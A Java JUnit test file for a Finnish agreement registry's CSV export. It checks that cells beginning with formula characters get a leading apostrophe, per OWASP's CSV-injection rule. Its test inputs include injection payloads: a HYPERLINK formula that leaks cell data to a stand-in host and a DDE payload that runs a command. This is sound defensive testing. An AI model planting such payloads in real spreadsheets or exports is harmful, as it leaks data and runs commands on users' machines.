package fi.agreementregistry.api.export;


import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.LocalDate;

import static org.assertj.core.api.Assertions.assertThat;

/** OWASP's CSV-injection rule, cell by cell: what a spreadsheet would evaluate gets a leading apostrophe. */
class CsvCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)"})
    void aCellStartingAFormulaGetsALeadingApostrophe(String text) {
        assertThat(CsvCells.cell(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Hämeenlinna", "§ 30", "56/15.00.18/2023", "1. Periaate\n2. =ei kaava", "a=b", "'=jo"})
    void ordinaryTextIsUnchanged(String text) {
        assertThat(CsvCells.cell(text)).isEqualTo(text);
    }

    @Test
    void numbersStayNumbersAndOtherValuesAreWrittenAsNeutralisedText() {
        assertThat(CsvCells.cell(-1L)).isEqualTo(-1L);
        assertThat(CsvCells.cell(null)).isNull();
        assertThat(CsvCells.cell(LocalDate.MIN)).isEqualTo("'-999999999-01-01");
        assertThat(CsvCells.cell(LocalDate.of(2026, 3, 2))).isEqualTo("2026-03-02");
    }
}
